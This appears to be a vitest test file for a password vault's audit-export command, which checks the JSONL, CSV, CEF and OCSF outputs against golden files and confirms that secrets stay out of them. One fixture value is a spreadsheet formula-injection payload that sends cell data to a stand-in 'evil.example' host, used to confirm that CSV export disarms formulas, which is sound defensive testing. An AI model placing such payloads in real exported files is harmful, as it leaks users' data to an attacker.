/**
 * `keyward audit export` (issue 12, SIEM; docs/siem.md): the four formats
 * against golden files, byte for byte, and the command end to end.
 *
 * The golden files in fixtures/audit-export/ are made from SAMPLE below, a
 * fixed hand-written trail. A deliberate change of a format rewrites them:
 *
 *   UPDATE_GOLDEN=1 npx vitest run electron/test/audit-export.test.ts
 *
 * then read the diff of the fixtures before committing it.
 */
import { existsSync } from 'node:fs';
import { mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cefExtensionValue, cefHeaderField } from '../core/audit/export/cef.js';
import { csvCell } from '../core/audit/export/csv.js';
import { EXPORT_FORMATS, exportRecords, FORMAT_NAMES, KEYWARD_VERSION, type ExportFormat, type ExportOptions } from '../core/audit/export/index.js';
import type { AuditEntry } from '../core/audit/trail-read.js';
import { distinctiveSecret } from './helpers/builders.js';
import { CliVault } from './helpers/cli.js';
import { repoRoot } from './helpers/paths.js';
import { useTempDirs } from './helpers/temp-dirs.js';
import { findInAnyEncoding } from './helpers/vault-file.js';

const tempDir = useTempDirs();
const GOLDEN_DIR = join(repoRoot, 'electron/test/fixtures/audit-export');
const GOLDEN_FILE: Record<ExportFormat, string> = { jsonl: 'sample.jsonl', csv: 'sample.csv', cef: 'sample.cef', ocsf: 'sample.ocsf.jsonl' };

const VAULT_ID = '924c53dc-c754-422f-aa6c-8ad53813652b';
const DEVICE = '5f0e6c1d2b3a4958';
const STRIPE = '8b4f3e0c5a1d2e7f9a6b3c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f';
const GITHUB = '1d2c3b4a5f6e7d8c9b0a1f2e3d4c5b6a7f8e9d0c1b2a3f4e5d6c7b8a9f0e1d2c';
const TRICKY_KEY = 'f0e1d2c3b4a5968778695a4b3c2d1e0ff0e1d2c3b4a5968778695a4b3c2d1e0f';
/** Everything a format must escape, in one name someone could choose. */
const TRICKY = 'ops, "prod" = db|main\nsecond line \\ end';
/** A name a spreadsheet would run as a formula. */
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")';

/** A fixed trail: unlock failed (while locked) and succeeded, adds, a reveal, a copy, hostile names, a gap, a lock, an incident. */
const SAMPLE: readonly AuditEntry[] = [
  { seq: 0, at: '2026-12-01T09:00:00.000Z', device: DEVICE, actor: 'cli', action: 'vault.create', outcome: 'success' },
  { seq: 1, at: '2026-12-01T09:00:00.004Z', device: DEVICE, actor: 'cli', action: 'vault.lock.command-end', outcome: 'success' },
  { seq: 2, at: '2026-12-01T09:05:12.250Z', device: DEVICE, actor: 'app', action: 'vault.unlock.password', outcome: 'failure', code: 'AUTH_FAILED', locked: true },
  { seq: 3, at: '2026-12-01T09:05:20.001Z', device: DEVICE, actor: 'app', action: 'vault.unlock.password', outcome: 'success' },
  { seq: 4, at: '2026-12-01T09:06:00.000Z', device: DEVICE, actor: 'app', action: 'add', outcome: 'success', credential: 'stripe-prod', credentialKey: STRIPE },
  { seq: 5, at: '2026-12-01T09:06:30.500Z', device: DEVICE, actor: 'cli', action: 'reveal', outcome: 'success', credential: 'stripe-prod', credentialKey: STRIPE },
  { seq: 6, at: '2026-12-01T09:07:00.000Z', device: DEVICE, actor: 'app', action: 'copy.field.username', outcome: 'success', credential: 'github', credentialKey: GITHUB },
  { seq: 7, at: '2026-12-01T09:08:00.000Z', device: DEVICE, actor: 'app', action: 'add', outcome: 'success', credential: TRICKY, credentialKey: TRICKY_KEY },
  { seq: 8, at: '2026-12-01T09:09:00.000Z', device: DEVICE, actor: 'cli', action: 'reveal', outcome: 'failure', code: 'NOT_FOUND', credential: FORMULA },
  { seq: 12, at: '2026-12-01T10:00:00.000Z', device: DEVICE, actor: 'app', action: 'audit.gap', outcome: 'failure', code: 'CORRUPTED' },
  { seq: 13, at: '2026-12-01T10:30:00.000Z', device: DEVICE, actor: 'app', action: 'vault.lock.user', outcome: 'success' },
  { seq: 14, at: '2026-12-01T10:31:00.000Z', device: DEVICE, actor: 'app', action: 'incident.open.burst', outcome: 'success', credentialKey: STRIPE },
];

const OPTIONS: ExportOptions = { vaultId: VAULT_ID, productVersion: '0.1.0', withNames: true };
const NAMES = ['stripe-prod', 'github', TRICKY, FORMULA, 'ops, '];

/** RFC 4180, strictly (quoted fields, doubled quotes, CRLF): what a careful reader of the CSV sees. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error('unterminated quoted field');
        cell += text.slice(i, quote);
        i = quote + 1;
        if (text[i] !== '"') break;
        cell += '"';
        i++;
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      cell = end < 0 ? text.slice(i) : text.slice(i, i + end);
      expect(cell, 'an unquoted field holds no quote, CR or LF').not.toMatch(/["\r\n]/);
      i += cell.length;
    }
    row.push(cell);
    if (text.startsWith(',', i)) i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length) throw new Error('the last row does not end with CRLF');
  return rows;
}

describe('export formats, against golden files', () => {
  it.each(FORMAT_NAMES.map((f) => [f] as const))('%s: byte for byte', async (format) => {
    const text = exportRecords(format, SAMPLE, OPTIONS);
    const file = join(GOLDEN_DIR, GOLDEN_FILE[format]);
    if (process.env.UPDATE_GOLDEN === '1') {
      await mkdir(GOLDEN_DIR, { recursive: true });
      await writeFile(file, text);
    }
    expect(existsSync(file), `${file} is missing: run with UPDATE_GOLDEN=1 once, and review it`).toBe(true);
    expect(Buffer.from(text, 'utf8').equals(await readFile(file)), `${format} differs from ${GOLDEN_FILE[format]}`).toBe(true);
  });

  it('the version the exports report is the package version', async () => {
    const pkg = JSON.parse(await readFile(join(repoRoot, 'package.json'), 'utf8')) as { version: string };
    expect(KEYWARD_VERSION, 'update KEYWARD_VERSION in electron/core/audit/export/export-options.ts').toBe(pkg.version);
  });

  it('without --with-names, no name appears in any format: only keyed ids', () => {
    for (const format of FORMAT_NAMES) {
      const text = exportRecords(format, SAMPLE, { ...OPTIONS, withNames: false });
      for (const name of NAMES) expect(text, `${format} shows "${name}"`).not.toContain(name);
      for (const key of [STRIPE, GITHUB, TRICKY_KEY]) expect(text, `${format} lacks a keyed id`).toContain(key);
    }
  });

  it('jsonl: one ECS document per line, nested, members sorted, categorised', () => {
    const lines = exportRecords('jsonl', SAMPLE, OPTIONS).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(SAMPLE.length);
    const docs = lines.map((l) => JSON.parse(l) as Record<string, Record<string, unknown>>);
    for (const [i, doc] of docs.entries()) {
      expect(Object.keys(doc)).toEqual([...Object.keys(doc)].sort());
      expect(doc.event).toMatchObject({ kind: 'event', provider: 'keyward', sequence: SAMPLE[i]!.seq, action: SAMPLE[i]!.action, outcome: SAMPLE[i]!.outcome, id: `${VAULT_ID}:${SAMPLE[i]!.seq}` });
      expect(doc.host).toEqual({ id: DEVICE });
    }
    const bySeq = (seq: number) => docs[SAMPLE.findIndex((r) => r.seq === seq)]!;
    expect(bySeq(2).event).toMatchObject({ category: ['authentication', 'session'], type: ['start'], outcome: 'failure' });
    expect(bySeq(2).error).toEqual({ code: 'AUTH_FAILED' });
    expect(bySeq(2).keyward).toMatchObject({ actor: 'app', locked: true });
    expect(bySeq(5).event).toMatchObject({ category: ['database'], type: ['access'] });
    expect(bySeq(5).keyward).toMatchObject({ credential: { key: STRIPE, name: 'stripe-prod' } });
    expect(bySeq(7).keyward).toMatchObject({ credential: { name: TRICKY } });
    expect(bySeq(12).event).toMatchObject({ category: ['intrusion_detection'], outcome: 'failure' });
    expect(bySeq(13).event).toMatchObject({ category: ['authentication', 'session'], type: ['end'] });
  });

  it('csv: RFC 4180 with CRLF, hostile names survive a strict reader, formulas are disarmed', () => {
    const rows = parseCsv(exportRecords('csv', SAMPLE, OPTIONS));
    expect(rows[0]).toEqual(['seq', 'time', 'action', 'outcome', 'code', 'actor', 'device', 'credential_key', 'credential_name', 'locked', 'vault_id']);
    expect(rows).toHaveLength(SAMPLE.length + 1);
    const name = (seq: number) => rows.find((r) => r[0] === String(seq))![8];
    expect(name(7)).toBe(TRICKY);
    expect(name(8)).toBe(`'${FORMULA}`);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1+1`).replace(/^"/, '')).toMatch(/^'/);
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
  });

  it('cef: header and extension escapes, one event per line, severity by what happened', () => {
    const lines = exportRecords('cef', SAMPLE, OPTIONS).split('\n').filter(Boolean);
    expect(lines).toHaveLength(SAMPLE.length);
    for (const line of lines) expect(line).toMatch(/^CEF:0\|Keyward\|Keyward\|0\.1\.0\|[^|]+\|[^|]+\|\d+\|rt=\d+ act=/);
    const line = (seq: number) => lines[SAMPLE.findIndex((r) => r.seq === seq)]!;
    expect(line(7)).toContain(` cs2=ops, "prod" \\= db|main\\nsecond line \\\\ end cs2Label=credentialName`);
    const severity = (seq: number) => Number(line(seq).split('|')[6]);
    expect(severity(2)).toBeGreaterThan(severity(3)); // a failed unlock above a successful one
    expect(severity(12)).toBe(10); // a gap in the trail: tampering
    expect(severity(5)).toBeGreaterThan(severity(4)); // a value revealed above an add
    expect(cefHeaderField('a|b\\c')).toBe('a\\|b\\\\c');
    expect(cefExtensionValue('k=v\r\nx\\')).toBe('k\\=v\\nx\\\\');
  });

  it('ocsf: the class by what happened, type_uid = class_uid × 100 + activity_id, status and severity', () => {
    const events = exportRecords('ocsf', SAMPLE, OPTIONS)
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, unknown> & { class_uid: number; activity_id: number; type_uid: number });
    const event = (seq: number) => events[SAMPLE.findIndex((r) => r.seq === seq)]!;
    for (const e of events) {
      expect(e.type_uid).toBe(e.class_uid * 100 + e.activity_id);
      expect(e.metadata).toMatchObject({ product: { name: 'Keyward', vendor_name: 'Keyward' }, version: expect.stringMatching(/^1\.\d+\.0$/) });
      expect(e.category_uid).toBe(Math.floor(e.class_uid / 1000));
    }
    expect(event(2)).toMatchObject({ class_uid: 3002, category_uid: 3, activity_id: 1, status_id: 2, status_code: 'AUTH_FAILED', time: Date.parse(SAMPLE[2]!.at) });
    expect(event(13)).toMatchObject({ class_uid: 3002, activity_id: 2, status_id: 1 });
    expect(event(4)).toMatchObject({ class_uid: 6003, category_uid: 6, activity_id: 1, api: { operation: 'add' }, resources: [{ uid: STRIPE, name: 'stripe-prod' }] });
    expect(event(5)).toMatchObject({ class_uid: 6003, activity_id: 2, api: { operation: 'reveal' } });
    expect(event(12)).toMatchObject({ class_uid: 2004, category_uid: 2, activity_id: 1, severity_id: 5, finding_info: { uid: `${VAULT_ID}:12` } });
    expect(event(14)).toMatchObject({ class_uid: 2004, severity_id: 4, resources: [{ uid: STRIPE }] });
    expect((event(2).severity_id as number) > (event(3).severity_id as number)).toBe(true);
  });

  it('a format name is one of the four, and nothing else (not even an Object.prototype member)', () => {
    expect(Object.keys(EXPORT_FORMATS)).toEqual(['jsonl', 'csv', 'cef', 'ocsf']);
    expect(() => exportRecords('constructor' as ExportFormat, SAMPLE, OPTIONS)).toThrow();
  });
});

describe('keyward audit export', () => {
  it('writes each format (0600), names only with --with-names, never a value, and is recorded as audit.export', async () => {
    const dir = await tempDir();
    const cli = new CliVault(dir);
    const secret = distinctiveSecret('export');
    await cli.init();
    await cli.add('stripe-prod', secret, 'api_key');
    await cli.expectOk(['get', 'stripe-prod']);

    const counts: number[] = [];
    for (const format of FORMAT_NAMES) {
      const out = join(dir, `trail.${format}`);
      const r = await cli.expectOk(['audit', 'export', '--format', format, '--out', out]);
      const text = await readFile(out, 'utf8');
      const reported = Number(/Exported (\d+) records? as (\w+) to /.exec(r.stdout)?.[1]);
      const records = format === 'csv' ? text.split('\r\n').length - 2 : text.split('\n').length - 1;
      expect(records, `${format}: records in the file`).toBe(reported);
      counts.push(records);
      expect((await stat(out)).mode & 0o777).toBe(0o600);
      expect(findInAnyEncoding(Buffer.from(text, 'utf8'), secret), `${format} holds the value`).toBeNull();
      expect(text, `${format} names the credential without --with-names`).not.toContain('stripe-prod');
    }
    // Each export reads the whole trail: 3 records more each time (the previous export, its lock, this unlock).
    expect(counts.slice(1).map((n, i) => n - counts[i]!)).toEqual([3, 3, 3]);

    const named = join(dir, 'named.jsonl');
    await cli.expectOk(['audit', 'export', '--out', named, '--with-names', '--since', '2000-01-01']);
    const lines = (await readFile(named, 'utf8')).split('\n').filter(Boolean).map((l) => JSON.parse(l) as { event: { action: string; sequence: number }; keyward: { credential?: { name?: string } } });
    expect(lines.map((l) => l.event.sequence)).toEqual(lines.map((_, i) => i));
    expect(lines.filter((l) => l.keyward.credential?.name === 'stripe-prod').map((l) => l.event.action)).toEqual(['add', 'reveal']);
    expect(findInAnyEncoding(await readFile(named), secret)).toBeNull();

    const trail = await cli.json<{ action: string }[]>(['audit', '--action', 'audit.']);
    expect(trail.map((e) => e.action)).toEqual(['audit.export', 'audit.export', 'audit.export', 'audit.export', 'audit.export']);
  });

  it('refuses a format it does not know (exit 2, naming the four) and a missing --out, before reading the trail', async () => {
    const dir = await tempDir();
    const cli = new CliVault(dir);
    await cli.init();
    const bad = await cli.run(['audit', 'export', '--format', 'xml', '--out', join(dir, 'x')]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--format takes jsonl, csv, cef, ocsf/);
    const noOut = await cli.run(['audit', 'export']);
    expect(noOut.code).toBe(2);
    expect(noOut.stderr).toMatch(/needs --out FILE/);
    const later = await cli.run(['audit', 'export', '--out', join(dir, 'x'), '--until', 'not a date']);
    expect(later.code).toBe(2);
    expect(existsSync(join(dir, 'x'))).toBe(false);
    expect((await cli.json<{ action: string }[]>(['audit', '--action', 'audit.'])).map((e) => e.action)).toEqual([]);
  });
});
